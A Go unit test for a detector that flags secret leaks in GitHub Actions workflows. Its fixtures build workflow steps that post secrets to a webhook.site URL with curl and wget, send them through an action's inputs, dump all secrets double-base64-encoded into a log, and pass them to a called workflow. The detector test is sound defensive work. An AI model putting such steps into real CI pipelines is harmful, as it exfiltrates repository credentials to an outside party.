package detect

import (
	"fmt"
	"strings"
	"testing"
)

// What a rule hits is told as a leak, whichever way it goes, beside what another step sends: an action's inputs, a log, a called workflow, and steps of a
// file that cannot be parsed.
func TestLeaksOfEveryWay(t *testing.T) {
	const drop = "https://webhook.site/00000000-0000-4000-8000-000000000000"
	step := func(lines string) string {
		return "      - " + strings.ReplaceAll(lines, "\n", "\n        ") + "\n"
	}
	file := func(steps ...string) string {
		return "on: push\njobs:\n  a:\n    runs-on: x\n    steps:\n" + strings.Join(steps, "")
	}
	curl := step("run: curl -d 'k=${{ secrets.A }}' " + drop)
	for name, c := range map[string]struct{ text, want string }{
		"two commands":            {file(curl, step("run: make ${{ secrets.C }}"), step("run: wget --post-data='${{ secrets.B }}' "+drop)), "a/0 A [6]; a/2 B [8]"},
		"an action's input":       {file(curl, step("uses: octo-org/http@v1\nwith: {url: '"+drop+"', data: '${{ secrets.B }}'}")), "a/0 A [6]; a/1 B [8]"},
		"an action's input alone": {file(step("uses: octo-org/http@v1\nwith: {url: '"+drop+"', data: '${{ secrets.B }}'}"), step("run: make ${{ secrets.C }}")), "a/0 B [7]"},
		"a log, encoded":          {file(curl, step("run: echo '${{ toJSON(secrets) }}' | base64 | base64")), "a/0 A [6]; a/1 * [7]"},
		"a called workflow":       {file(curl) + "  b:\n    uses: octo-org/x/.github/workflows/y.yml@v1\n    secrets: {all: '${{ toJSON(secrets) }}'}\n", "a/0 A [6]; b/-1 * [7]"},
		"of no job":               {"on: [push\n" + file(curl, step("run: make ${{ secrets.C }}")), "/-1 A [7]"},
	} {
		got := Versions([]Version{{Blob: "b", Paths: []string{ci}, Text: []byte(c.text)}}, nil)
		if len(got) != 1 {
			t.Errorf("%s: %+v", name, got)
			continue
		}
		var told []string
		for _, l := range got[0].Leaks {
			names := strings.Join(l.Secrets, ",")
			if l.AllSecrets {
				names += "*"
			}
			told = append(told, fmt.Sprintf("%s/%d %s %v", l.JobID, l.StepIndex, names, l.Lines))
		}
		if s := strings.Join(told, "; "); s != c.want {
			t.Errorf("%s: %s, want %s", name, s, c.want)
		}
	}
}
